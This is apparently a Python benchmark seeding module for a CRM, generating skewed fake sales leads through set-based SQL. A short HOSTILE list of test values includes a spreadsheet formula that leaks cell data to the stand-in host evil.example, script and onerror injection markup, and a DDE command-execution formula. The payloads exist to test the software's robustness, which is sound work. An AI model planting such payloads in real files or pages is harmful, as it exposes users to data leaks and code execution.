"""Leads for the benchmark, set-based: one INSERT ... SELECT over generate_series, skewed like real data.

Every pseudo-random choice is a hash of the row number (hashint8extended), so a scale always seeds the
same rows. Skew: a tenth of the reps own half of the leads, 15% wait unassigned in the queues (a third
of them in the default queue), most leads are new or being worked, and the leads were created over
two years in id order. One lead in fifty repeats an earlier person (same name, email and phone), one
in 97 carries hostile text (formulas, markup, a leading tab, over-long and non-Latin names).
"""

from __future__ import annotations

from typing import Any

from bench.sql import insert_select, random_below
from crm.models import EngagementEvent, Role
from crm.timeline.engagement import EMAIL_OPENED, FORM_SUBMITTED, LINK_CLICKED, PAGE_VISITED
from leads.models import Lead

FIRST_NAMES = [
    "Anna", "Ben", "Carla", "David", "Emma", "Felix", "Grace", "Hugo", "Ines", "Jonas", "Klara", "Liam",
    "Mia", "Noah", "Olga", "Paul", "Quinn", "Rosa", "Sven", "Tara", "Uma", "Victor", "Wanda", "Xavier",
    "Yara", "Zoe", "Aiko", "Bjorn", "Chen", "Dario", "Elif", "Farid", "Giulia", "Hana", "Ivan", "Jamal",
    "Kofi", "Lena", "Mateo", "Nadia", "Omar", "Priya", "Raj", "Sofia", "Tomas", "Ugo", "Vera", "Wei",
    "Yusuf", "Zara",
]  # fmt: skip
# Three persons in a hundred have a first name in another script or with diacritics.
INTERNATIONAL_FIRST_NAMES = [
    "Дмитрий", "Ελένη", "山田", "مريم", "김민준", "Łukasz", "Søren", "Zoë", "José", "Ñuño",
]  # fmt: skip
# Last names are two or three syllables: about 18,000 names, as varied as a real list for trigrams.
SYLLABLES = [
    "Ber", "Har", "Lin", "Mor", "Ost", "Sal", "Tam", "Vel", "Wil", "Kar", "Dun", "Fen", "Gal", "Hol",
    "Jor", "Kel", "Lor", "Mar", "Nor", "Pel", "Quin", "Ros", "Sten", "Tor", "Ul", "Van", "Wes", "Yor",
    "Zel", "Bran",
]  # fmt: skip
ENDINGS = [
    "ding", "man", "son", "berg", "ford", "ley", "ton", "well", "wick", "stad", "holm", "gaard", "ski",
    "ova", "ini", "ez", "ier", "mann", "sen", "quist",
]  # fmt: skip
BRANDS = [
    "Acme", "Globex", "Initech", "Umbrella", "Hooli", "Vandelay", "Soylent", "Tyrell", "Stark", "Wayne",
    "Wonka", "Cyberdyne", "Aperture", "Massive", "Oscorp", "Gringotts", "Nakatomi", "Sirius", "Monarch",
    "Virtucon", "Duff", "Krusty", "Prestige", "Dunder", "Pied", "Bluth", "Sterling", "Wernham", "Gekko",
    "Nordic",
]  # fmt: skip
BUSINESSES = [
    "Labs", "Group", "Industries", "Systems", "Partners", "Logistics", "Foods", "Energy", "Software",
    "Capital", "Health", "Media", "Robotics", "Retail", "Motors",
]  # fmt: skip
LEGAL_FORMS = ["GmbH", "Inc.", "Ltd", "S.A.", "BV", "AG", "LLC", "Oy", "KK"]
FREE_MAIL = ["gmail.com", "yahoo.com", "outlook.com", "gmx.de", "hotmail.co.uk", "web.de"]
TITLES = [
    "CEO", "CTO", "CFO", "Head of Sales", "Head of Marketing", "VP Engineering", "Buyer",
    "Procurement Manager", "Engineer", "Analyst", "Office Manager", "Founder", "",
]  # fmt: skip
INDUSTRIES = [
    "Software", "Manufacturing", "Retail", "Healthcare", "Finance", "Logistics", "Education", "Energy",
    "Media", "Public sector", "",
]  # fmt: skip
# Most leads come from the first countries: the index is drawn with a quadratic skew.
COUNTRIES = [
    "United States", "Germany", "United Kingdom", "France", "Canada", "Netherlands", "Spain", "Japan",
    "Brazil", "India", "Australia", "Poland", "Sweden", "Mexico", "South Africa",
]  # fmt: skip
TAGS = [
    "vip", "webinar", "trade-show", "partner", "enterprise", "smb", "newsletter", "churn-risk",
    "event-2025", "inbound",
]  # fmt: skip
DISQUALIFIED_REASONS = ["No budget", "Wrong contact", "Went with a competitor", "No response", "Student"]
# (first name, last name, company) of the hostile rows, in turn.
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', "Formula", "=1+2"),
    ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "<b>Bold</b> & Co"),
    ("\tTabbed", "Lead", "\t=cmd|' /C calc'!A0"),
    ("Maximiliane" + "x" * 89, ("Wolfeschlegelsteinhausen" * 5)[:100], ("Very Long Holding " * 12)[:200]),
    ("Дмитрий", "Шостакович", "ООО «Ромашка»"),
    ("مريم", "العتيبي", "شركة الأفق 🚀"),
    ("王", "小明", "株式会社テスト"),
    ("Zoë", "O'Brien-Łukasiewicz", "Müller & Söhne GmbH"),
]  # fmt: skip
URLS = ["https://www.example.com/pricing", "https://www.example.com/blog/roi", "https://www.example.com/docs"]


def _pick(array: str, index: str) -> str:
    """The element of a text[] parameter at a 0-based index."""
    return f"(%({array})s::text[])[1 + {index}]"


def _r(seed: int, n: int | str, column: str = "g") -> str:
    return random_below(column, seed, n)


# Per person (a repeated person has the same name, email and phone): first, last, company, domain.
PERSON = f"""
    CASE WHEN {_r(1, 100, "person")} < 3 THEN {_pick("intl", _r(2, len(INTERNATIONAL_FIRST_NAMES), "person"))}
        ELSE {_pick("first", _r(2, len(FIRST_NAMES), "person"))} END AS first_name,
    {_r(1, 100, "person")} < 3 AS international,
    {_pick("syllables", _r(3, len(SYLLABLES), "person"))}
        || CASE WHEN {_r(4, 2, "person")} = 0
           THEN lower({_pick("syllables", _r(5, len(SYLLABLES), "person"))}) ELSE '' END
        || {_pick("endings", _r(6, len(ENDINGS), "person"))} AS last_name,
    {_r(7, 100, "person")} < 40 AS big_company,
    {_pick("brands", _r(8, len(BRANDS), "person"))} AS brand,
    {_pick("syllables", _r(9, len(SYLLABLES), "person"))}
        || {_pick("endings", _r(10, len(ENDINGS), "person"))} AS small_brand,
    {_pick("businesses", _r(11, len(BUSINESSES), "person"))} AS business,
    {_pick("legal", _r(12, len(LEGAL_FORMS), "person"))} AS legal_form,
    {_r(13, 100, "person")} AS r_email,
    {_r(14, 100, "person")} AS r_phone,
    lpad(mod(person, 10000000)::text, 7, '0') AS digits"""

# OFFSET 0 keeps each level a subquery of its own: flattened, every use of a column such as p.last_name
# or l.email would compute its expression again (the lead INSERT took twice as long).
PEOPLE = f"""(SELECT g, person, {PERSON}
    FROM (SELECT g::bigint AS g,
                 CASE WHEN mod(g, 50) = 0 AND g > 1000 THEN g - 1000 ELSE g END::bigint AS person
          FROM generate_series(1, %(leads)s) AS g) AS numbered OFFSET 0) AS p"""

COMPANY = """CASE WHEN p.big_company THEN p.brand || ' ' || p.business
    ELSE initcap(p.small_brand) || ' ' || p.business || ' ' || p.legal_form END"""
DOMAIN = """CASE WHEN p.big_company THEN lower(p.brand || '-' || p.business)
    ELSE lower(p.small_brand) END || '.example'"""
LOCAL_PART = """CASE WHEN p.international THEN 'lead' || p.person
    ELSE lower(p.first_name) || '.' || lower(p.last_name) || p.person END"""
EMAIL = f"""CASE WHEN p.r_email < 5 THEN ''
    ELSE (CASE WHEN p.r_email >= 90 THEN initcap({LOCAL_PART}) ELSE {LOCAL_PART} END) || '@'
        || CASE WHEN p.r_email < 35 THEN {_pick("free_mail", "mod(p.person, %(free_mail_count)s)")}
           ELSE {DOMAIN} END END"""
PHONE = """CASE WHEN p.r_phone < 20 THEN ''
    WHEN p.r_phone < 50 THEN '+1 (555) ' || substr(p.digits, 1, 3) || '-' || substr(p.digits, 4)
    WHEN p.r_phone < 75 THEN '+49 30 ' || p.digits
    WHEN p.r_phone < 90 THEN '+44 20 ' || substr(p.digits, 1, 4) || ' ' || substr(p.digits, 5)
    ELSE '(06' || substr(p.digits, 1, 2) || ') ' || substr(p.digits, 3) END"""

# Per lead: who owns it, its status and source, when it came. Reads the person's columns from `p`.
LEAD = f"""(SELECT p.*, {COMPANY} AS company, {EMAIL} AS email, {PHONE} AS phone,
    {_r(20, 1000)} AS r_owner, {_r(21, 1_000_000)} AS r_pick, {_r(22, 1_000_000)} AS r_other,
    CASE WHEN {_r(23, 100)} < 45 THEN 'new' WHEN {_r(23, 100)} < 75 THEN 'working'
        WHEN {_r(23, 100)} < 85 THEN 'nurturing' WHEN {_r(23, 100)} < 92 THEN 'qualified'
        ELSE 'disqualified' END AS status,
    CASE WHEN {_r(24, 100)} < 15 THEN 'manual' WHEN {_r(24, 100)} < 40 THEN 'import'
        WHEN {_r(24, 100)} < 70 THEN 'web_form' WHEN {_r(24, 100)} < 75 THEN 'api'
        WHEN {_r(24, 100)} < 90 THEN 'campaign' ELSE 'referral' END AS source,
    now() - make_interval(secs => 730 * 86400.0 * (%(leads)s - g) / %(leads)s + {_r(25, 7200)})
        AS created,
    CASE WHEN mod(g, 97) = 0 THEN mod(g / 97, %(hostile_count)s) END AS hostile
    FROM {PEOPLE} OFFSET 0) AS l"""

OWNER = """CASE WHEN l.r_owner < 150 THEN NULL
    WHEN l.r_owner < 650 THEN reps.ids[1 + mod(l.r_pick, %(top_reps)s)]
    ELSE reps.ids[1 + %(top_reps)s + mod(l.r_pick, cardinality(reps.ids) - %(top_reps)s)] END"""
UTM = "CASE WHEN l.source IN ('web_form', 'campaign') AND mod(l.r_other, 10) < 6 THEN {} ELSE '' END"


def _hostile(column: int, otherwise: str) -> str:
    return (
        f"CASE WHEN l.hostile IS NULL THEN {otherwise} ELSE (%(hostile_{column})s::text[])[1 + l.hostile] END"
    )


LEAD_COLUMNS = {
    "first_name": _hostile(0, "l.first_name"),
    "last_name": _hostile(1, "l.last_name"),
    "company": _hostile(2, "CASE WHEN mod(l.r_other, 33) = 0 THEN '' ELSE l.company END"),
    "email": "l.email",
    "email_normalized": "lower(l.email)",
    "phone": "l.phone",
    "phone_normalized": r"regexp_replace(l.phone, '\D', '', 'g')",
    "title": _pick("titles", f"mod(l.r_other, {len(TITLES)})"),
    "website": "CASE WHEN NOT p_free THEN 'https://www.' || split_part(l.email, '@', 2) ELSE '' END",
    "industry": _pick("industries", f"mod(l.r_other / 7, {len(INDUSTRIES)})"),
    "employee_count": "CASE WHEN mod(l.r_pick, 100) < 10 THEN NULL WHEN mod(l.r_pick, 100) < 60 "
    "THEN 1 + mod(l.r_other, 50) WHEN mod(l.r_pick, 100) < 90 THEN 51 + mod(l.r_other, 950) "
    "ELSE 1001 + mod(l.r_other, 49000) END",
    "country": _pick(
        "countries", f"floor({len(COUNTRIES)} * power(mod(l.r_other, 1000) / 1000.0::float8, 2))::int"
    ),
    "source": "l.source",
    "utm_source": UTM.format(_pick("utm_sources", "mod(l.r_other / 11, 5)")),
    "utm_medium": UTM.format(_pick("utm_mediums", "mod(l.r_other / 13, 4)")),
    "utm_campaign": UTM.format(_pick("utm_campaigns", "mod(l.r_other / 17, 5)")),
    "tags": "CASE WHEN mod(l.r_other / 19, 100) < 8 THEN ARRAY[{0}, {1}] "
    "WHEN mod(l.r_other / 19, 100) < 20 THEN ARRAY[{0}] ELSE '{{}}'::text[] END".format(
        _pick("tags", f"mod(l.r_pick / 3, {len(TAGS)})"), _pick("tags", f"mod(l.r_pick / 3 + 1, {len(TAGS)})")
    ),
    "status": "l.status",
    "disqualified_reason": "CASE WHEN l.status = 'disqualified' THEN "
    + _pick("reasons", f"mod(l.r_other, {len(DISQUALIFIED_REASONS)})")
    + " ELSE '' END",
    "budget": "CASE WHEN mod(l.r_pick / 7, 5) = 0 THEN (1 + mod(l.r_other, 500)) * 1000.0 END",
    "authority": "CASE WHEN mod(l.r_pick / 11, 10) < 7 THEN 'unknown' ELSE "
    "(ARRAY['user', 'influencer', 'decision_maker'])[1 + mod(l.r_pick / 11, 3)] END",
    "timeline": "CASE WHEN mod(l.r_pick / 13, 10) < 6 THEN 'unknown' ELSE "
    "(ARRAY['this_quarter', 'next_quarter', 'this_year', 'later'])[1 + mod(l.r_pick / 13, 4)] END",
    "need": "CASE WHEN mod(l.r_pick / 17, 10) = 0 THEN 'Wants a demo of the reporting features.' ELSE '' END",
    "owner_id": OWNER,
    "team_id": "CASE WHEN l.r_owner < 150 AND mod(l.r_pick, 3) <> 0 "
    "THEN teams.ids[1 + mod(l.r_pick / 3, cardinality(teams.ids))] END",
    # An owner's new lead has its first-touch timer running (alerted once it is a day old); a lead
    # being worked was touched within two days.
    "first_touch_due_at": "CASE WHEN l.r_owner >= 150 AND l.status = 'new' "
    "THEN l.created + interval '4 hours' END",
    "first_touch_alerted_at": "CASE WHEN l.r_owner >= 150 AND l.status = 'new' "
    "AND l.created < now() - interval '1 day' THEN l.created + interval '4 hours' END",
    "first_touched_at": "CASE WHEN l.r_owner >= 150 AND l.status <> 'new' "
    "THEN LEAST(now(), l.created + make_interval(mins => 5 + mod(l.r_other, 2880))) END",
    "created_at": "l.created",
    "updated_at": "LEAST(now(), l.created + make_interval(hours => mod(l.r_pick, 24 * 60)))",
}
LEAD_SOURCE = f"""FROM (SELECT l.*, split_part(l.email, '@', 2) = ANY(%(free_mail)s::text[]) OR l.email = ''
        AS p_free FROM {LEAD}) AS l,
    (SELECT array_agg(id ORDER BY id) AS ids FROM crm_user WHERE role = %(rep)s) AS reps,
    (SELECT array_agg(id ORDER BY id) AS ids FROM crm_team) AS teams"""


def lead_params(scale_reps: int) -> dict[str, Any]:
    return {
        "first": FIRST_NAMES,
        "intl": INTERNATIONAL_FIRST_NAMES,
        "syllables": SYLLABLES,
        "endings": ENDINGS,
        "brands": BRANDS,
        "businesses": BUSINESSES,
        "legal": LEGAL_FORMS,
        "free_mail": FREE_MAIL,
        "free_mail_count": len(FREE_MAIL),
        "titles": TITLES,
        "industries": INDUSTRIES,
        "countries": COUNTRIES,
        "tags": TAGS,
        "reasons": DISQUALIFIED_REASONS,
        "utm_sources": ["google", "linkedin", "newsletter", "facebook", "bing"],
        "utm_mediums": ["cpc", "social", "email", "organic"],
        "utm_campaigns": ["spring-launch-2025", "webinar-q3", "retargeting", "black-friday", "brand"],
        "hostile_count": len(HOSTILE),
        **{f"hostile_{column}": [row[column] for row in HOSTILE] for column in range(3)},
        "top_reps": max(1, scale_reps // 10),
        "rep": Role.SALES_REP.value,
        "engagement_types": [EMAIL_OPENED, LINK_CLICKED, PAGE_VISITED, FORM_SUBMITTED],
        "urls": URLS,
    }


def seed_leads(params: dict[str, Any]) -> None:
    """Inserts the leads; call it with the secondary indexes of the lead table dropped (see bench.seed)."""
    if params["reps"] < 2:
        raise ValueError("bench: a scale needs at least two reps (a tenth of them own half the leads).")
    insert_select(Lead, LEAD_COLUMNS, LEAD_SOURCE, params)


def seed_engagements(params: dict[str, Any]) -> None:
    """Engagement events on a third of the leads (every third lead in id order), over the last year."""
    draw = _r(30, 100)
    kind = f"CASE WHEN {draw} < 50 THEN 0 WHEN {draw} < 70 THEN 1 WHEN {draw} < 95 THEN 2 ELSE 3 END"
    engaged = _r(33, "((%(leads)s + 2) / 3)")
    insert_select(
        EngagementEvent,
        {
            "type": "(%(engagement_types)s::text[])[1 + e.kind]",
            "content_type_id": "%(lead_type)s",
            "object_id": "l.id",
            "occurred_at": f"now() - make_interval(secs => {_r(31, 365 * 86400)})",
            "data": f"CASE WHEN e.kind IN (1, 2) THEN jsonb_build_object('url', "
            f"(%(urls)s::text[])[1 + {_r(32, len(URLS))}]) ELSE '{{}}'::jsonb END",
        },
        f"FROM (SELECT g, {kind} AS kind FROM generate_series(1, %(engagements)s) AS g) AS e "
        "JOIN (SELECT id, row_number() OVER (ORDER BY id) AS n FROM leads_lead) AS l "
        f"ON l.n = 1 + 3 * {engaged}",
        params,
    )
